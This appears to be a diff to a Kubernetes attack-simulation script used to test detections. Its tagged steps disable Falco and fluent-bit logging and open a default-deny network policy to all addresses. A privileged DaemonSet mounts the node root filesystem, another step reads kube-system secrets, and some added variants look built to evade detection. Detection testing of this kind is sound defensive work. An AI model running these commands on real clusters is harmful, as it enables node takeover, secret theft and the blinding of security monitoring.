@@ -33,7 +33,7 @@ kubectl auth can-i create pods -n shop
 curl -s -o /dev/null -A 'python-requests/2.32.3 kube-hunter' "$SERVER/api/v1/pods"
 curl -s -o /dev/null -A peirates "$SERVER/api/v1/namespaces"
 #: token-from-far-away | D009 D162 D163 | checkout
-curl -s -o /dev/null -H 'X-Forwarded-For: 198.51.100.7' "$SERVER/api/v1/namespaces/shop/pods"
+curl -s -o /dev/null --interface 198.51.100.7 -H 'X-Forwarded-For: 10.0.1.11' "$SERVER/api/v1/namespaces/shop/pods"
 #: masters | D160 D159 | admin
 kubectl get secrets -n kube-system >/dev/null
 #: pod-logs | D126 | mallory
@@ -252,6 +252,20 @@ spec:
       hostNetwork: true
       containers: [{name: agent, image: "alpine:3.20", securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host}]}]
       volumes: [{name: root, hostPath: {path: /}}]
+YAML
+#: takeover-daemonset | D062 D048 D041 | mallory
+kubectl apply -f - <<'YAML'
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: node-tuning, namespace: monitoring}
+spec:
+  selector: {matchLabels: {app: node-tuning}}
+  template:
+    metadata: {labels: {app: node-tuning}}
+    spec:
+      hostPID: true
+      containers: [{name: pause, image: "registry.k8s.io/pause:3.10"}, {name: tune, image: "alpine:3.20", securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host}]}]
+      volumes: [{name: root, hostPath: {path: /.}}]
 YAML
 #: privileged-cronjob | D048 D040 | mallory
 kubectl apply -f - <<'YAML'
@@ -671,6 +685,8 @@ kubectl scale deployment falcosidekick -n falco --replicas=0
 kubectl patch daemonset falco -n falco --type=merge -p '{"spec":{"template":{"spec":{"nodeSelector":{"none":"here"}}}}}'
 #: logging-removed | D153 | mallory
 kubectl delete daemonset fluent-bit -n logging --wait=false
+#: network-policy-widened | D151 | mallory
+kubectl patch networkpolicy default-deny -n shop --type=merge -p '{"spec":{"ingress":[{"from":[{"ipBlock":{"cidr":"0.0.0.0/0"}}]}]}}'
 #: network-policy-deleted | D151 | mallory
 kubectl delete networkpolicy default-deny -n shop
 #: network-policy-opened | D151 | mallory
